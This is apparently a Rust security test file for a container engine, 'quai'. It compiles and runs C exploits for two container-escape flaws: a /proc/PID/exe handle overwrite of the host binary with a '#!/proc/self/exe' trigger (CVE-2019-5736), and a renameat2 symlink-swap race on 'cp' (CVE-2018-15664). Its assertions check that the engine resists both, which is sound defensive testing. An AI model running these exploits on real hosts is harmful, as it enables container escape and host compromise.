//! Attacks from inside a container on the host, the way real exploits work: a process in
//! the container holds `/proc/PID/exe` handles of quai's helpers and writes through them
//! once nothing executes the binary (CVE-2019-5736), and a `#!/proc/self/exe` script makes
//! `quai exec` run quai's own binary inside the container.

mod common;
mod engine_common;

use engine_common::*;
use std::path::Path;

/// The exploit's spy, in C as such exploits are: it scans the container's /proc in a
/// tight loop, keeps an `O_PATH` handle on the executable of every process that is not
/// its own or busybox (quai's helpers, while they enter the container), and keeps trying
/// to reopen each handle for writing and overwrite the file. It logs what it got.
const SPY: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    static int fds[512];
    static char seen[1 << 16];
    int nf = 0;
    char self[4096] = {0};
    readlink("/proc/self/exe", self, sizeof self - 1);
    FILE *log = fopen("/out/spy.log", "a");
    if (!log) return 1;
    setvbuf(log, NULL, _IOLBF, 0);
    fprintf(log, "ready\n");
    int last_errno[512] = {0};
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (1 << 16) || seen[pid]) continue;
            char p[64], l[4096] = {0};
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            seen[pid] = 1;
            if (readlink(p, l, sizeof l - 1) > 0 &&
                (strcmp(l, "/bin/busybox") == 0 || strcmp(l, self) == 0)) {
                close(fd);
                continue;
            }
            if (nf < 512) {
                fds[nf++] = fd;
                fprintf(log, "grabbed %d %s\n", pid, l);
            } else {
                close(fd);
            }
        }
        if (d) closedir(d);
        for (int i = 0; i < nf; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
            int w = open(p, O_WRONLY);
            if (w >= 0) {
                if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21) fprintf(log, "WROTE %d\n", i);
                else fprintf(log, "OPENED-FOR-WRITE %d\n", i);
                close(w);
            } else if (errno != last_errno[i]) {
                last_errno[i] = errno;
                fprintf(log, "refused %d %s\n", i, strerror(errno));
            }
        }
        usleep(200);
    }
}
"##;

fn build_spy(dir: &Path) -> std::path::PathBuf {
    let src = dir.join("spy.c");
    let bin = dir.join("spy");
    std::fs::write(&src, SPY).expect("write spy.c");
    let o = std::process::Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output()
        .expect("gcc (build-essential, installed by scripts/deps.sh)");
    assert!(o.status.success(), "gcc: {}", text(&o));
    bin
}

#[test]
fn host_binary_cannot_be_overwritten_through_exe_handles() {
    if !root_or_skip("host_binary_cannot_be_overwritten_through_exe_handles") {
        return;
    }
    let mut e = Eng::new();
    let d = e.dir.path().to_path_buf();
    let spy = build_spy(&d);
    // A private copy of quai plays the host's binary: tests beside this one execute the
    // shared one, and a file being executed answers ETXTBSY whatever its mount says.
    let copy = d.join("quai-host");
    std::fs::copy(quai(), &copy).expect("copy quai");
    let before = std::fs::read(&copy).expect("read copy");
    e.bin = copy.clone();
    let out = d.join("out");
    std::fs::create_dir(&out).expect("mkdir out");
    // The classic trigger: a script whose interpreter is /proc/self/exe, so whoever execs
    // it (quai exec's helper) runs its own binary inside the container.
    let x = out.join("x");
    std::fs::write(&x, "#!/proc/self/exe\n").expect("write x");
    std::fs::set_permissions(&x, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod x");
    e.ok(&[
        "run",
        "-d",
        "--name",
        "victim",
        // With ptrace rights the non-dumpable flag does not hide the helpers: the
        // read-only copy must stop the write on its own.
        "--cap-add",
        "SYS_PTRACE",
        "--health-cmd",
        "true",
        "--health-interval",
        "100ms",
        "-v",
        &format!("{}:/out", out.display()),
        "-v",
        &format!("{}:/spy:ro", spy.display()),
        "localbusybox",
        "/spy",
    ]);
    let log = out.join("spy.log");
    let read_log = || std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        e.until(10, || read_log().contains("ready")),
        "spy did not start"
    );
    for _ in 0..15 {
        e.q(&["exec", "victim", "true"]);
        e.q(&["exec", "victim", "/out/x"]);
        e.q(&["exec", "-d", "victim", "/out/x"]);
    }
    // Now nothing may execute the binary: no monitor (killed), no helper. An unprotected
    // binary would be writable from here on.
    for m in e.monitors("") {
        kill9(m);
    }
    assert!(e.until(5, || e.monitors("").is_empty()));
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let spied = read_log();
    let after = std::fs::read(&copy).expect("read copy");
    // Clean up with the real binary, whatever became of the copy.
    e.bin = quai();
    e.ok(&["rm", "-f", "victim"]);
    assert!(
        spied.contains("grabbed"),
        "the spy never got a handle, so the test proved nothing:\n{spied}"
    );
    assert!(!spied.contains("WROTE"), "the binary was written:\n{spied}");
    assert!(before == after, "the host binary changed:\n{spied}");
    assert!(
        spied.contains("Read-only file system"),
        "want EROFS from every reopen:\n{spied}"
    );
    assert_eq!(e.leaks(&[]), Vec::<String>::new());
}

/// `cp` out of a container whose process keeps swapping a directory for a symlink to the
/// host's /etc while the copy walks it (CVE-2018-15664): what arrives is the container's
/// files or an error, never the host's.
#[test]
fn cp_out_never_follows_a_swapped_symlink_to_the_host() {
    if !root_or_skip("cp_out_never_follows_a_swapped_symlink_to_the_host") {
        return;
    }
    let e = Eng::new();
    // The exploit's swapper: exchanges a directory and a symlink to /etc as fast as the
    // kernel allows (renameat2 RENAME_EXCHANGE), as the CVE's proof of concept did.
    let src = e.dir.path().join("swap.c");
    std::fs::write(
        &src,
        "#define _GNU_SOURCE\n#include <fcntl.h>\n#include <stdio.h>\n#include <sys/stat.h>\n\
         #include <unistd.h>\nint main(void){mkdir(\"/data\",0755);mkdir(\"/data/d\",0755);\
         mkdir(\"/data/d/e\",0755);FILE*f=fopen(\"/data/d/f\",\"w\");fputs(\"hi\\n\",f);\
         fclose(f);symlink(\"/etc\",\"/data/l\");for(;;)renameat2(AT_FDCWD,\"/data/d\",\
         AT_FDCWD,\"/data/l\",RENAME_EXCHANGE);}\n",
    )
    .expect("swap.c");
    let bin = e.dir.path().join("swap");
    let o = std::process::Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output()
        .expect("gcc");
    assert!(o.status.success(), "gcc: {}", text(&o));
    e.ok(&[
        "run",
        "-d",
        "--name",
        "racer",
        "-v",
        &format!("{}:/swap:ro", bin.display()),
        "localbusybox",
        "/swap",
    ]);
    assert!(e.until(5, || e
        .q(&["exec", "racer", "test", "-e", "/data/l"])
        .status
        .success()));
    let mut copied = 0;
    for i in 0..100 {
        let out = e.dir.path().join(format!("out{i}"));
        let o = e.q(&["cp", "racer:/data", out.to_str().expect("utf-8")]);
        if o.status.success() {
            copied += 1;
        }
        let host_files: Vec<String> = walk(&out)
            .into_iter()
            .filter(|p| {
                p.ends_with("debian_version") || p.ends_with("passwd") || p.ends_with("os-release")
            })
            .collect();
        assert!(
            host_files.is_empty(),
            "host files copied out: {host_files:?}"
        );
    }
    assert!(copied > 0, "no copy ever succeeded");
    e.ok(&["rm", "-f", "racer"]);
}

fn walk(p: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(p).into_iter().flatten().flatten() {
        let path = e.path();
        out.push(path.display().to_string());
        if e.file_type().is_ok_and(|t| t.is_dir()) {
            out.extend(walk(&path));
        }
    }
    out
}
